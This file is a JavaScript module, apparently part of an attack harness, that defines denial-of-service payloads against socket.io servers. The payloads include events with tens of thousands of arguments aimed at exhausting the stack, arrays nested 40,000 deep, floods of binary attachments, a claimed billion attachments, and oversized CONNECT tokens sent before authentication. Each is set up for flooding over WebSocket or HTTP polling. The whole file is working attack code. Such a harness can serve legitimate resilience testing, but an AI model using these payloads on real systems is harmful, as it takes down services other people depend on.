import { binary, text } from '../attacker/dial.js';
import { SEPARATOR } from '../attacker/kit.js';

// Packets that are small on the wire and large inside: socket.io spreads an event's arguments over the stack.

const COUNT = 62_000;
const zeros = ',0'.repeat(COUNT);
/** As many as a limit of 100,000 bytes a second lets through. */
const fewer = ',0'.repeat(49_500);
const nested = `${'['.repeat(40_000)}${']'.repeat(40_000)}`;
const place = '{"_placeholder":true,"num":0}';
const places = Array.from({ length: 10_000 }, (_, num) => `{"_placeholder":true,"num":${num}}`).join(',');

/** Each is the packets of one message: texts, and bytes for attachments. */
const shapes = {
  event: [`42["z"${zeros}]`],
  'event with an acknowledgement': [`421["z"${zeros}]`],
  'event of the chat': [`42["echo"${zeros}]`],
  'event of 49,500 arguments': [`42["z"${fewer}]`],
  'event of the chat, 49,500 arguments': [`421["echo"${fewer}]`],
  acknowledgement: [`430[0${zeros}]`],
  'binary event': [`451-["z",${place}${zeros}]`, Buffer.of(1)],
  'binary acknowledgement': [`461-0[${place}${zeros}]`, Buffer.of(1)],
  'event nested 40,000 deep': [`42["echo",${nested}]`],
  'event of 10,000 attachments': [`4510000-["z",${places}]`, ...Array.from({ length: 10_000 }, () => Buffer.of(1))],
  'event that announces 1,000,000,000 attachments': [`451000000000-["z",${place}]`],
};

/** What comes before a namespace is joined. */
const early = {
  'event before CONNECT': shapes.event,
  'acknowledgement before CONNECT': shapes.acknowledgement,
  'binary event before CONNECT': shapes['binary event'],
  'CONNECT nested 40,000 deep': [`40{"token":${nested}}`],
  'CONNECT of 900 KB': [`40{"token":[0${',0'.repeat(450_000)}]}`],
  'CONNECT of 62,000 keys': [`40{${Array.from({ length: COUNT }, (_, key) => `"${key}":0`).join(',')}}`],
};

const frames = (packets) =>
  Buffer.concat(packets.map((packet) => (typeof packet === 'string' ? text(packet) : binary(packet))));
const payload = (packets) =>
  packets.map((packet) => (typeof packet === 'string' ? packet : `b${packet.toString('base64')}`)).join(SEPARATOR);

const overWebSocket = ([name, packets], isEarly) => ({
  name: `arguments: ${name}, WebSocket`,
  about: about(packets),
  run: (attacker) => attacker.floodOn(() => (isEarly ? attacker.socketBefore() : attacker.socket()), frames(packets)),
});

const overPolling = ([name, packets], isEarly) => ({
  name: `arguments: ${name}, POST`,
  about: about(packets),
  run: (attacker) => attacker.postOn(() => attacker.polling(isEarly ? { auth: null } : {}), payload(packets)),
});

function about([first, ...attachments]) {
  const size = `${Math.round(first.length / 1000)} KB`;
  return `${first.slice(0, 12)}… of ${size}${attachments.length > 0 ? `, attachments: ${attachments.length}` : ''}`;
}

/** @type {import('../attacks.js').Attack[]} */
export const argumentAttacks = [
  ...Object.entries(shapes).flatMap((shape) => [overWebSocket(shape, false), overPolling(shape, false)]),
  ...Object.entries(early).flatMap((shape) => [overWebSocket(shape, true), overPolling(shape, true)]),
];
